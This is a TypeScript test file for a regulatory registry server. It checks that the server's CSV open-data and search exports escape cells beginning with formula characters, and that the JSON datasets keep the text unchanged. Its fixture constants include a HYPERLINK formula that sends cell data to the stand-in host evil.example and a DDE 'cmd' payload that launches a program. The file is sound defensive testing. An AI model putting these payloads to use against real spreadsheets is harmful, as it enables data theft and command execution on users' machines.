/**
 * Issue 17, item 10: no CSV the server writes lets a spreadsheet run a formula. Registry text that
 * starts with `=`, `+`, `-`, `@`, a tab or a carriage return (here written into this test's own copy of
 * the demo database, as a careless or hostile data entry would) leaves in every open-data and
 * search-export CSV with a leading apostrophe; the JSON keeps the text as stored.
 */
import { parse } from 'csv-parse/sync';
import { sql, type SQL } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from './helpers/test-app';
import { testRows } from '@rnt/db/testing';

let t: TestApp;
const one = async <T>(query: SQL) => (await testRows<T>(t.database.db, query))[0]!;

const INSTITUCION = '=HYPERLINK("http://evil.example/?"&A1,"Ver")';
const REQUISITO = "@SUM(1+1)*cmd|' /C calc'!A0";
const OFICINA = '+1+1 Oficina central';
const REGULACION = '-2+3 Ley de Procedimientos Administrativos';
const RESOLUCION = '\t=1+1';
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

let institucionId: number;
let tipoRegulacionId: number;

beforeAll(async () => {
  t = await createTestApp();
  // An institution with resolutions (so it shows in every modality dataset and both searches).
  ({ institucion_id: institucionId } = await one<{ institucion_id: number }>(
    sql`SELECT u.institucion_id FROM resoluciones r JOIN modalidades m ON m.id = r.modalidad_id
        JOIN tramites tr ON tr.id = m.tramite_id JOIN unidades u ON u.id = tr.unidad_id
        WHERE m.estado_id IN (SELECT id FROM estados_solicitud WHERE visible_portal) ORDER BY r.id LIMIT 1`,
  ));
  await testRows(
    t.database.db,
    sql`UPDATE instituciones SET nombre = ${INSTITUCION} WHERE id = ${institucionId}`,
  );
  await testRows(
    t.database.db,
    sql`UPDATE requisitos SET nombre = ${REQUISITO} WHERE id = (SELECT min(r.id) FROM requisitos r
        JOIN modalidades m ON m.id = r.modalidad_id WHERE r.tipo_requisito_id IN (1, 2) AND r.fecha_eliminacion IS NULL
        AND m.estado_id IN (SELECT id FROM estados_solicitud WHERE visible_portal))`,
  );
  await testRows(
    t.database.db,
    sql`UPDATE oficinas SET nombre = ${OFICINA} WHERE id = (SELECT min(oficina_id) FROM contactos_oficinas)`,
  );
  ({ tipo_solicitud_id: tipoRegulacionId } = await one<{ tipo_solicitud_id: number }>(
    sql`UPDATE regulaciones SET nombre = ${REGULACION} WHERE id = (SELECT min(r.id) FROM regulaciones r
        JOIN tipos_normativa tn ON tn.id = r.tipo_solicitud_id WHERE tn.visible_portal) RETURNING tipo_solicitud_id`,
  ));
  await testRows(
    t.database.db,
    sql`UPDATE resoluciones SET numero = ${RESOLUCION} WHERE id = (SELECT min(id) FROM resoluciones)`,
  );
});
afterAll(async () => {
  await t.close();
});

async function cells(path: string): Promise<string[][]> {
  const res = await t.app.inject(path);
  expect(res.statusCode, path).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  return parse(res.rawPayload, { bom: true, relax_quotes: true }) as string[][];
}

/** No cell of the file would start a formula: it is text with an apostrophe, or a plain number. */
function expectNoFormula(path: string, rows: string[][]) {
  const formulas = rows.flat().filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
  expect(formulas, path).toEqual([]);
}

describe('CSV cells that would start a formula', () => {
  const files: [string, () => string, string[]][] = [
    ['open data tramites', () => '/api/datos-abiertos/tramites.csv', [INSTITUCION]],
    ['open data requisitos', () => '/api/datos-abiertos/requisitos.csv', [REQUISITO]],
    ['open data oficinas', () => '/api/datos-abiertos/oficinas.csv', [OFICINA, INSTITUCION]],
    ['open data regulaciones', () => '/api/datos-abiertos/regulaciones.csv', [REGULACION]],
    ['open data resoluciones', () => '/api/datos-abiertos/resoluciones.csv', [RESOLUCION, INSTITUCION]],
    [
      'home search export',
      () => `/api/datos-abiertos/busqueda/tramites.csv?institucion_id=${institucionId}`,
      [INSTITUCION],
    ],
    [
      'catalogue search export',
      () => `/api/datos-abiertos/busqueda/regulaciones.csv?tipo_solicitud_id=${tipoRegulacionId}`,
      [REGULACION],
    ],
    [
      'resolution search export',
      () => `/api/datos-abiertos/busqueda/resoluciones.csv?institucion_id=${institucionId}`,
      [INSTITUCION, RESOLUCION],
    ],
  ];
  it.each(files)('%s: written as text with a leading apostrophe', async (_name, pathOf, texts) => {
    const path = pathOf();
    const rows = await cells(path);
    expectNoFormula(path, rows);
    for (const text of texts) expect(rows.flat(), `${path} ${JSON.stringify(text)}`).toContain(`'${text}`);
  });

  it('keep the text as stored in the JSON datasets', async () => {
    const body = (await t.app.inject('/api/datos-abiertos/regulaciones.json')).json() as {
      regulaciones: { nombre: string }[];
    };
    expect(body.regulaciones.map((r) => r.nombre)).toContain(REGULACION);
  });
});
